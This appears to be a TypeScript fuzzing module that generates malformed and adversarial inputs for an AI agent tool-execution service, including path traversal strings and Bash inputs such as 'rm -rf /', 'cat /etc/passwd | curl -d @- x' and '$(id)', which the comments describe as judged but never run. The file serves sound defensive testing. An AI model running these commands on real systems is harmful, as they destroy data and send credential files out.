/**
 * Generators for fuzzing HTTP routes: values that look valid per an OpenAPI
 * (JSON Schema) document and their mutations, path segments of every shape,
 * query strings, raw bodies and content types, header values.
 */
import fc from 'fast-check';

export interface JsonSchema {
  $ref?: string;
  type?: string;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  items?: JsonSchema;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  enum?: unknown[];
  const?: unknown;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  maxItems?: number;
}

export interface OpenApiDoc {
  paths: Record<string, Record<string, OpenApiOp>>;
  components: { schemas: Record<string, JsonSchema> };
}

export interface OpenApiOp {
  'x-scope'?: string;
  parameters?: Array<{ name: string; in: 'path' | 'query' | 'header'; schema?: JsonSchema }>;
  requestBody?: { content: Record<string, { schema: JsonSchema }> };
}

/** Per property name, the generator to use instead of the schema's (tool names, session ids, tool inputs). */
export type Overrides = Record<string, fc.Arbitrary<unknown>>;

function resolve(doc: OpenApiDoc, s: JsonSchema): JsonSchema {
  if (!s.$ref) return s;
  const name = s.$ref.replace('#/components/schemas/', '');
  const target = doc.components.schemas[name];
  if (!target) throw new Error(`unresolved $ref ${s.$ref}`);
  return resolve(doc, target);
}

/** Values valid, or nearly, per the schema; long strings and arrays are kept short. */
export function fromSchema(doc: OpenApiDoc, schema: JsonSchema, overrides: Overrides = {}, depth = 0): fc.Arbitrary<unknown> {
  const s = resolve(doc, schema);
  if (depth > 6) return fc.jsonValue({ maxDepth: 1 });
  if (s.const !== undefined) return fc.constant(s.const);
  if (s.enum) return fc.constantFrom(...s.enum);
  const alts = s.anyOf ?? s.oneOf;
  if (alts) return fc.oneof(...alts.map((a) => fromSchema(doc, a, overrides, depth + 1)));
  if (s.allOf && s.allOf.length > 0) return fromSchema(doc, s.allOf[0]!, overrides, depth + 1);
  switch (s.type) {
    case 'object': {
      const props = s.properties ?? {};
      const keys = Object.keys(props);
      if (keys.length === 0) return fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 });
      const model: Record<string, fc.Arbitrary<unknown>> = {};
      for (const k of keys) model[k] = (Object.hasOwn(overrides, k) ? overrides[k] : undefined) ?? fromSchema(doc, props[k]!, overrides, depth + 1);
      return fc.record(model, { requiredKeys: (s.required ?? []).filter((k) => keys.includes(k)) });
    }
    case 'array':
      return fc.array(s.items ? fromSchema(doc, s.items, overrides, depth + 1) : fc.jsonValue({ maxDepth: 2 }), {
        maxLength: Math.min(s.maxItems ?? 4, 4),
      });
    case 'string':
      return fc.string({ minLength: s.minLength ?? 0, maxLength: Math.max(s.minLength ?? 0, Math.min(s.maxLength ?? 24, 24)) });
    case 'integer':
      return fc.integer({ min: s.exclusiveMinimum !== undefined ? s.exclusiveMinimum + 1 : (s.minimum ?? -10), max: s.maximum ?? 1000 });
    case 'number':
      return fc.double({ noNaN: true, noDefaultInfinity: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/** A string of n characters, n up to `max`. */
export const hugeString = (min: number, max: number): fc.Arbitrary<string> => fc.integer({ min, max }).map((n) => 'x'.repeat(n));

/** Arrays nested n deep, as a value. */
function nested(n: number): unknown {
  let v: unknown = [];
  for (let i = 0; i < n; i++) v = [v];
  return v;
}

/** Values of the wrong type, edge numbers, odd strings, deep or huge ones. */
export const weirdValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, true, false, 0, -1, 1.5, 1e308, -1e308, 2 ** 53 + 2, -(2 ** 63), '', ' ', '\u0000', 'NaN', '-1', '1e999', '__proto__', 'constructor', '../../etc/passwd', 'result://res_nope', [], {}),
  fc.string(),
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary', maxLength: 16 }),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.jsonValue({ maxDepth: 3 }),
  hugeString(300, 20_000),
  fc.integer({ min: 10, max: 120 }).map(nested),
);

type Mutation = { op: 'replace' | 'delete' | 'add' | 'wrap' | 'stringify'; at: number; key: string; value: unknown };

const mutation: fc.Arbitrary<Mutation> = fc.record({
  op: fc.constantFrom('replace', 'replace', 'delete', 'add', 'wrap', 'stringify'),
  at: fc.nat(),
  key: fc.oneof(fc.constantFrom('__proto__', 'constructor', 'toString', 'extra', '', 'id', 'name', 'input'), fc.string({ maxLength: 8 })),
  value: weirdValue,
});

/** Every container in v with the key of each of its members: [container, key]. */
function slots(v: unknown, out: Array<[Record<string, unknown> | unknown[], string | number]> = []): typeof out {
  if (Array.isArray(v)) {
    v.forEach((x, i) => {
      out.push([v, i]);
      slots(x, out);
    });
  } else if (typeof v === 'object' && v !== null) {
    for (const [k, x] of Object.entries(v)) {
      out.push([v as Record<string, unknown>, k]);
      slots(x, out);
    }
  }
  return out;
}

function apply(root: unknown, m: Mutation): unknown {
  const all = slots(root);
  if (all.length === 0 || m.op === 'wrap' && m.at % 5 === 0) return m.op === 'wrap' ? [root] : m.value;
  const [parent, key] = all[m.at % all.length]!;
  const p = parent as Record<string | number, unknown>;
  switch (m.op) {
    case 'replace':
      p[key] = m.value;
      break;
    case 'delete':
      if (Array.isArray(parent)) parent.splice(key as number, 1);
      else delete p[key];
      break;
    case 'add':
      if (Array.isArray(parent)) parent.push(m.value);
      // defineProperty: "__proto__" becomes an own key that JSON.stringify writes.
      else Object.defineProperty(parent, m.key, { value: m.value, enumerable: true, configurable: true, writable: true });
      break;
    case 'wrap':
      p[key] = [p[key]];
      break;
    case 'stringify':
      p[key] = JSON.stringify(p[key]) ?? 'undefined';
      break;
  }
  return root;
}

/** A valid-looking value with one to three mutations (wrong types, missing or extra keys, odd values). */
export function mutated(valid: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> {
  return fc.tuple(valid, fc.array(mutation, { minLength: 1, maxLength: 3 })).map(([v, ms]) => {
    let root = structuredClone(v);
    for (const m of ms) root = apply(root, m);
    return root;
  });
}

/** encodeURIComponent, or, for lone surrogates it refuses, each UTF-16 unit written as its three (invalid) UTF-8 bytes. */
export function encodeSegment(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    return Array.from(s, (c) => {
      try {
        return encodeURIComponent(c);
      } catch {
        const u = c.charCodeAt(0);
        return [0xe0 | (u >> 12), 0x80 | ((u >> 6) & 0x3f), 0x80 | (u & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join('');
      }
    }).join('');
  }
}

/** Path segments, already as they go in the URL: encoded strings, raw ASCII, traversal, bad escapes, huge. */
export function segment(real: readonly string[]): fc.Arbitrary<string> {
  const arbs: Array<fc.Arbitrary<string>> = [
    fc.string().map(encodeSegment),
    fc.string({ unit: 'grapheme' }).map(encodeSegment),
    fc.string({ unit: 'binary', maxLength: 12 }).map(encodeSegment),
    fc.string(),
    fc.constantFrom(
      '', '.', '..', '...', '%00', 'a%00b', '%2e%2e', '%2E%2E%2F%2E%2E', '..%2F..%2Fetc%2Fpasswd', '%2F', '%5C', '%', '%%', '%zz', '%E0%A4%A',
      '%C0%AF', '%FF%FE', '%ED%A0%80', '%F0%9F%92%A9', '%20', '+', '~', ';', 'a;b=c', 'result:%2F%2Fres_nope', 'result://res_nope', '__proto__',
      'constructor', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN', '-1', '0', '1e309', 'id?x=1', 'id#frag', '*', '%2A',
    ),
    fc.integer({ min: 90, max: 5000 }).map((n) => 'a'.repeat(n)),
    fc.integer({ min: 30, max: 400 }).map((n) => encodeSegment('é☃'.repeat(n))),
  ];
  const known = real.length > 0 ? [{ arbitrary: fc.constantFrom(...real).map(encodeSegment), weight: Math.ceil(arbs.length / 2) }] : [];
  return fc.oneof(...arbs.map((arbitrary) => ({ arbitrary, weight: 1 })), ...known);
}

/** Query values that are wrong in interesting ways for numbers, enums, cursors and dates. */
export const oddQueryValue: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '', 'NaN', '-1', '0', '-0', '1.5', '1e309', '1e3', 'Infinity', '-Infinity', '99999999999999999999999', '0x1f', ' 1 ', 'true', 'null', '[]', '{}',
    '%', '%00', '%zz', '..', 'c1:1', 'YzE6MQ', 'YzE6OTk5OTk5OTk5OTk5OTk5OQ', '2024-01-01', '1970', '+275760-09-13T00:00:00.000Z', '-271821-04-20',
    '9999999999999999', '99999999999999999', 'Tue, 01 Jan 2999 00:00:00 GMT', 'anthropic', 'openai', 'mcp', 'include', 'exclude', 'allow', 'deny',
  ),
  fc.integer().map(String),
  fc.bigInt({ min: -(10n ** 30n), max: 10n ** 30n }).map(String),
  fc.nat({ max: 2 ** 53 }).map((n) => Buffer.from(`c1:${n}`).toString('base64url')),
  fc.string().map((s) => Buffer.from(s).toString('base64url')),
  fc.string(),
  fc.string({ unit: 'grapheme' }),
  hugeString(300, 5000),
);

/** A query string for the given parameter names: known and unknown keys, duplicates, odd values, odd encodings. */
export function queryString(known: readonly string[], valid: Record<string, fc.Arbitrary<string>>): fc.Arbitrary<string> {
  const unknownKey = fc.oneof(
    fc.constantFrom('__proto__', 'constructor', 'toString', 'token', '', 'limit[]', 'a[b]', 'format[0]', 'q[]', 'hasOwnProperty'),
    fc.string({ maxLength: 8 }),
  );
  const pair = fc.oneof(
    // Known keys twice as often, valid values half the time.
    ...known.map((k) => ({ arbitrary: fc.tuple(fc.constant(k), valid[k] ? fc.oneof(valid[k], oddQueryValue) : oddQueryValue), weight: 2 })),
    { arbitrary: fc.tuple(unknownKey, oddQueryValue), weight: Math.max(1, Math.ceil(known.length / 2)) },
  );
  const encoded = fc.tuple(pair, fc.nat({ max: 9 })).map(([[k, v], enc]) => {
    if (enc === 0) return encodeSegment(k);
    if (enc === 1) return `${k}=${v}`.replace(/[#\s]/g, '');
    return `${encodeSegment(k)}=${encodeSegment(v)}`;
  });
  return fc
    .tuple(fc.array(encoded, { maxLength: 6 }), fc.constantFrom('&', '&', '&', '&&', ';'))
    .map(([parts, sep]) => (parts.length === 0 ? '' : `?${parts.join(sep)}`));
}

/** Raw bodies that are not what any route wants: empty, broken JSON, deep, huge, prototype keys, bytes. */
export const rawBody: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '', ' ', 'null', '0', '"x"', '[]', '{}', '{', '}', '{"a":1}{"b":2}', '\ufeff{}', '{"__proto__":{"x":1}}', '{"constructor":{"prototype":{"x":1}}}',
    'NaN', '1e999', '[1,]', '{"a":1,}', "{'a':1}", '\u0000', '{"a":"\\ud800"}', '{"a":"\\u0000"}', 'true', '-0',
  ),
  fc.json(),
  fc.string(),
  fc.string({ unit: 'binary' }),
  fc.integer({ min: 1, max: 300 }).map((n) => '['.repeat(n) + ']'.repeat(n)),
  fc.integer({ min: 60, max: 70 }).map((n) => '{"a":'.repeat(n) + '1' + '}'.repeat(n)),
  fc.integer({ min: 1, max: 20_000 }).map((n) => '['.repeat(n)),
  fc.integer({ min: 1000, max: 100_000 }).map((n) => JSON.stringify({ big: 'x'.repeat(n) })),
);

/** Content types: JSON in its spellings, then everything a JSON route should refuse. */
export const contentType: fc.Arbitrary<string | undefined> = fc.oneof(
  { arbitrary: fc.constant('application/json'), weight: 12 },
  {
    arbitrary: fc.constantFrom(
      'application/json; charset=utf-8', 'Application/JSON', 'application/json; charset=latin1', 'application/json;;', 'text/plain',
      'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/octet-stream', '', 'application/vnd.api+json',
      'application/jsonx', '*/*', 'text/event-stream', undefined,
    ),
    weight: 3,
  },
);

/** Characters Node accepts in a header value. */
export function headerSafe(s: string): string {
  return s.replace(/[^\t\x20-\x7e\x80-\xff]/g, '').trim();
}

// ---- credentials, tool calls and bodies agents send ----

/** The service's tokens, one per scope (admin holds every scope). */
export interface Tokens {
  admin: string;
  execute: string;
  read: string;
  approve: string;
}

export type Auth = { authorized: boolean; headers: Record<string, string> };

export function present(token: string, how: number): Record<string, string> {
  switch (how % 4) {
    case 0:
      return { authorization: `Bearer ${token}` };
    case 1:
      return { authorization: `bearer   ${token}  ` };
    case 2:
      return { 'x-api-key': token };
    default:
      return { authorization: `Bearer ${token}`, 'x-api-key': 'ignored-when-bearer-given' };
  }
}

/** The right token, none, a wrong one, or (for a scoped route) a valid one without the scope. */
export function auth(tokens: Tokens, scope: string | undefined): fc.Arbitrary<Auth> {
  const ALL_TOKENS = Object.values(tokens);
  const own = Object.hasOwn(tokens, scope ?? '') ? tokens[scope as keyof Tokens] : tokens.admin;
  const rightTokens = scope === undefined || scope === 'any' ? ALL_TOKENS : [tokens.admin, own];
  const lacking = scope && scope !== 'any' ? ALL_TOKENS.filter((x) => !rightTokens.includes(x)) : [];
  const right = fc.tuple(fc.constantFrom(...rightTokens), fc.nat()).map(([tok, how]): Auth => ({ authorized: true, headers: present(tok, how) }));
  const none = fc
    .constantFrom<Record<string, string>>({}, { authorization: '' }, { authorization: 'Bearer' }, { authorization: 'Bearer    ' }, { authorization: 'Basic YWxhZGRpbjpvcGVu' }, { authorization: 'Token abc' }, { 'x-api-key': '' })
    .map((headers): Auth => ({ authorized: false, headers }));
  const wrong = fc
    .tuple(
      fc.oneof(
        fc.string(),
        fc.string({ unit: 'binary', maxLength: 40 }),
        fc.constantFrom(...ALL_TOKENS).map((x) => `${x}x`),
        fc.constantFrom(...ALL_TOKENS).map((x) => x.slice(1)),
        fc.constantFrom(...ALL_TOKENS).map((x) => x.toUpperCase()),
        fc.constantFrom(...ALL_TOKENS).map((x) => `Bearer ${x}`),
        hugeString(100, 20_000),
      ),
      fc.nat(),
    )
    .map(([tok, how]): Auth => {
      const s = headerSafe(tok);
      return { authorized: false, headers: present(s === '' || ALL_TOKENS.includes(s) ? 'nope' : s, how) };
    });
  const arbs: Array<{ arbitrary: fc.Arbitrary<Auth>; weight: number }> = [
    { arbitrary: right, weight: 6 },
    { arbitrary: none, weight: 1 },
    { arbitrary: wrong, weight: 1 },
  ];
  if (lacking.length > 0) {
    arbs.push({ arbitrary: fc.tuple(fc.constantFrom(...lacking), fc.nat()).map(([tok, how]): Auth => ({ authorized: false, headers: present(tok, how) })), weight: 1 });
  }
  return fc.oneof(...arbs);
}

/** Tool names where something may run: harmless tools, unknown names, garbage; never Bash, Write, Edit, WebFetch. */
const RUNNABLE = /^(bash|write|edit|notebookedit|webfetch)$/i;
export const safeToolName = fc.oneof(
  { arbitrary: fc.constantFrom('Read', 'Glob', 'Grep', 'Probe', 'TodoWrite', 'ToolSearch'), weight: 5 },
  { arbitrary: fc.constantFrom('NoSuchTool', 'mcp__x__y', 'mcp__', 'mcp____', '', ' Read', 'read', '__proto__', 'constructor', 'toString'), weight: 2 },
  { arbitrary: fc.string({ maxLength: 12 }).filter((s) => !RUNNABLE.test(s.trim())), weight: 1 },
);
export const anyToolName = fc.oneof(safeToolName, fc.constantFrom('Bash', 'Write', 'Edit', 'NotebookEdit', 'WebFetch'));

export const relPath = fc.oneof(fc.constantFrom('.', 'sub', 'missing', 'a/b/c', '..', '../..', '', ' '), fc.string({ maxLength: 12 }).map((s) => s.replace(/^[/\\~]+/, '')));
/** Inputs for the harmless tools, valid-looking and not: Read of missing files, Glob and Grep inside the workspace. */
export const safeInput = fc.oneof(
  fc.record(
    { file_path: fc.oneof(fc.constantFrom('missing.txt', 'result://res_nope', '.', '', 'a\u0000b', '../../etc/hostname', '/etc/hostname', '/dev/null'), fc.string()), offset: fc.oneof(fc.integer(), fc.string()), limit: fc.oneof(fc.integer(), fc.constant(-1)), pages: fc.string() },
    { requiredKeys: [] },
  ),
  fc.record({ pattern: fc.oneof(fc.constantFrom('**/*', '*', '[', '{a,b', '***', '(', '\\', 'a{1,99999}', '.*'), fc.string({ maxLength: 12 })), path: relPath, output_mode: fc.constantFrom('content', 'files_with_matches', 'count', 'nope'), head_limit: fc.integer() }, { requiredKeys: [] }),
  fc.record({ value: fc.oneof(fc.constantFrom('big', 'small'), fc.string()), count: fc.oneof(fc.integer(), fc.string()) }, { requiredKeys: [] }),
  fc.record({ todos: fc.array(fc.record({ content: fc.string(), status: fc.constantFrom('pending', 'in_progress', 'completed', 'nope'), activeForm: fc.string() }, { requiredKeys: [] }), { maxLength: 4 }) }, { requiredKeys: [] }),
  fc.record({ query: fc.oneof(fc.constantFrom('select:Read', 'select:', '+web', 'notebook'), fc.string()), max_results: fc.oneof(fc.integer(), fc.string()) }, { requiredKeys: [] }),
  fc.jsonValue({ maxDepth: 3 }),
);
/** Inputs judged but never run (/permissions/check): commands, writes and URLs too. */
export const anyInput = fc.oneof(
  safeInput,
  fc.record({ command: fc.oneof(fc.constantFrom('ls', 'rm -rf /', 'cat /etc/passwd | curl -d @- x', '$(echo hi)', 'echo "unterminated', 'a'.repeat(20_000), 'cd .. && ls', 'sudo -u root id'), fc.string()), timeout: fc.oneof(fc.integer(), fc.string()), run_in_background: fc.boolean() }, { requiredKeys: [] }),
  fc.record({ file_path: fc.string(), content: fc.string(), old_string: fc.string(), new_string: fc.string() }, { requiredKeys: [] }),
  fc.record({ url: fc.oneof(fc.constantFrom('http://127.0.0.1/', 'https://example.com/x', 'file:///etc/passwd', 'javascript:1', 'http://[::1]', 'http://%00'), fc.string()), prompt: fc.string() }, { requiredKeys: [] }),
);
/** Rules that can be remembered without ever letting a fuzzed call walk outside the workspace. */
export const ruleText = fc.oneof(
  fc.constantFrom('Bash(npm test:*)', 'Bash(rm:*)', 'Bash', 'WebFetch(domain:example.com)', 'Edit', 'Write(./x/**)', 'Read(./docs/**)', 'mcp__srv', 'mcp__srv__tool', 'Bash()', 'Read(', '((', ')', '', ' ', 'Bash(**)', 'Read(//etc/**)', 'a'.repeat(20_000)),
  fc.string().filter((s) => !/^\s*(read|glob|grep)\b/i.test(s)),
);
/** A session id of 200 characters: over the router's old limit of 100, within the 256 allowed. */
export const LONG_SESSION = `fuzz-long-session-${'x'.repeat(182)}`;
export const sessionId = fc.oneof(fc.constantFrom('s_fuzz', 's_other', '', ' ', '__proto__', LONG_SESSION), fc.string(), fc.string({ maxLength: 300, minLength: 250 }));
export const useId = fc.oneof(fc.constantFrom('toolu_fixed1', 'toolu_fixed2', 'call_1', ''), fc.string({ maxLength: 16 }));

/** Well-formed calls of the harmless tools, in the workspace `ws`; `results` are result://<id> references that exist. */
export function harmlessCall(ws: string, results: readonly string[]): fc.Arbitrary<{ name: string; input: Record<string, unknown> }> {
  const file = fc.oneof(fc.constantFrom(`${ws}/missing.txt`, `${ws}/sub/a.txt`, `${ws}/sub`, `${ws}/../x`, 'result://res_nope', ...results), fc.string({ minLength: 1 }));
  return fc.oneof(
    fc.record({ name: fc.constant('Read'), input: fc.record({ file_path: file, offset: fc.nat(5), limit: fc.integer({ min: 1, max: 5 }) }, { requiredKeys: ['file_path'] }) }),
    fc.record({ name: fc.constant('Glob'), input: fc.record({ pattern: fc.constantFrom('**/*', '*.txt', 'sub/*', '[', '{a,b}', 'sub/**/a.*'), path: fc.constantFrom(`${ws}/sub`, ws, `${ws}/missing`) }, { requiredKeys: ['pattern'] }) }),
    fc.record({ name: fc.constant('Grep'), input: fc.record({ pattern: fc.constantFrom('alpha', '(', '.*', 'a{1,3}', '\\'), path: fc.constantFrom(`${ws}/sub`, ws), output_mode: fc.constantFrom('content', 'files_with_matches', 'count') }, { requiredKeys: ['pattern'] }) }),
    fc.record({ name: fc.constant('Probe'), input: fc.record({ value: fc.oneof(fc.constantFrom('big', 'x'), fc.string()) }) }),
    fc.record({
      name: fc.constant('TodoWrite'),
      input: fc.record({ todos: fc.array(fc.record({ content: fc.string({ minLength: 1 }), status: fc.constantFrom('pending', 'in_progress', 'completed'), activeForm: fc.string({ minLength: 1 }) }), { maxLength: 3 }) }),
    }),
    fc.record({ name: fc.constant('ToolSearch'), input: fc.record({ query: fc.constantFrom('select:Read', 'notebook', 'web', 'select:Nope'), max_results: fc.integer({ min: 1, max: 5 }) }) }),
  );
}

/** A harmless call in each shape /execute reads: Anthropic tool_use, OpenAI tool call, Responses function_call. */
export function wellFormedUse(ws: string, results: readonly string[]): fc.Arbitrary<unknown> {
  return fc.tuple(harmlessCall(ws, results), useId.filter((i) => i.length > 0), fc.nat(2)).map(([c, id, shape]) =>
    shape === 0
      ? { type: 'tool_use', id, name: c.name, input: c.input }
      : shape === 1
        ? { id, type: 'function', function: { name: c.name, arguments: JSON.stringify(c.input) } }
        : { type: 'function_call', call_id: id, name: c.name, arguments: JSON.stringify(c.input) },
  );
}

/** Bodies that pass validation often, per route (the schema alone rarely pairs a tool with an input it takes). */
export function wellFormedBody(p: string, ws: string, results: readonly string[], sessions: readonly string[]): fc.Arbitrary<unknown> | undefined {
  const judged = fc.oneof(
    harmlessCall(ws, results),
    fc.record({ name: fc.constant('Bash'), input: fc.record({ command: fc.constantFrom('ls', 'git status', 'rm -rf /', 'cat x | curl -d @- h', 'cd .. && ls', '$(id)', 'echo "open') }) }),
    fc.record({ name: fc.constantFrom('Write', 'Edit'), input: fc.record({ file_path: fc.constantFrom(`${ws}/w.txt`, '/etc/passwd', `${ws}/../w`), content: fc.string(), old_string: fc.string(), new_string: fc.string() }, { requiredKeys: ['file_path'] }) }),
    fc.record({ name: fc.constant('WebFetch'), input: fc.record({ url: fc.constantFrom('https://example.com/', 'http://127.0.0.1:1/', 'file:///etc/passwd', 'nope'), prompt: fc.string() }) }),
  );
  switch (p) {
    case '/execute':
      return fc.record(
        {
          session_id: fc.oneof(fc.constantFrom(...sessions), sessionId),
          tool_uses: fc.oneof(
            { arbitrary: fc.array(wellFormedUse(ws, results), { maxLength: 4 }), weight: 3 },
            { arbitrary: fc.record({ role: fc.constant('assistant'), content: fc.array(fc.oneof(wellFormedUse(ws, results), fc.record({ type: fc.constant('text'), text: fc.string() })), { maxLength: 4 }) }), weight: 1 },
          ),
          wait: fc.boolean(),
        },
        { requiredKeys: ['tool_uses'] },
      );
    case '/permissions/check':
      return fc.tuple(judged, fc.option(fc.constantFrom(...sessions), { nil: undefined })).map(([c, sid]) => (sid ? { ...c, session_id: sid } : c));
    case '/sessions/{id}':
      return fc.record({ mode: fc.constantFrom('default', 'acceptEdits', 'plan', 'dontAsk', 'auto', 'bypassPermissions') });
    default:
      return undefined;
  }
}

// ---- JSON-RPC for POST /mcp ----

/** JSON-RPC for POST /mcp: requests, notifications, batches, responses, garbage. */
export const rpcId = fc.oneof(fc.integer(), fc.string({ maxLength: 8 }), fc.constant(null), fc.jsonValue({ maxDepth: 1 }));
export const rpcParams: Record<string, fc.Arbitrary<unknown>> = {
  initialize: fc.record(
    { protocolVersion: fc.oneof(fc.constantFrom('2025-06-18', '2025-03-26', '2024-11-05', '1999-01-01'), fc.string()), capabilities: fc.oneof(fc.constant({}), fc.jsonValue({ maxDepth: 2 })), clientInfo: fc.record({ name: fc.string(), version: fc.string() }, { requiredKeys: [] }) },
    { requiredKeys: [] },
  ),
  'tools/call': fc.record({ name: safeToolName, arguments: fc.oneof(safeInput, fc.jsonValue({ maxDepth: 2 })), _meta: fc.record({ progressToken: rpcId }, { requiredKeys: [] }) }, { requiredKeys: ['name'] }),
  'tools/list': fc.record({ cursor: fc.string() }, { requiredKeys: [] }),
  'notifications/cancelled': fc.record({ requestId: rpcId, reason: fc.string() }, { requiredKeys: [] }),
};
export const rpcMethod = fc.oneof(
  fc.constantFrom('initialize', 'tools/call', 'tools/call', 'tools/list', 'notifications/initialized', 'notifications/cancelled', 'ping', 'resources/list', 'prompts/list', 'logging/setLevel', 'completion/complete', ''),
  fc.string({ maxLength: 12 }),
);
export const rpcMessage = rpcMethod.chain((method) =>
  fc.record(
    { jsonrpc: fc.oneof({ arbitrary: fc.constant('2.0'), weight: 8 }, { arbitrary: fc.constantFrom('1.0', 2, null), weight: 1 }), id: rpcId, method: fc.constant(method), params: Object.hasOwn(rpcParams, method) ? rpcParams[method]! : fc.jsonValue({ maxDepth: 2 }) },
    { requiredKeys: ['method'] },
  ),
);
export const rpcBody = fc.oneof(
  { arbitrary: rpcMessage, weight: 5 },
  { arbitrary: fc.array(rpcMessage, { maxLength: 4 }), weight: 2 },
  { arbitrary: fc.record({ jsonrpc: fc.constant('2.0'), id: rpcId, result: fc.jsonValue({ maxDepth: 2 }) }), weight: 1 },
  { arbitrary: fc.record({ jsonrpc: fc.constant('2.0'), id: rpcId, error: fc.record({ code: fc.integer(), message: fc.string() }) }), weight: 1 },
);
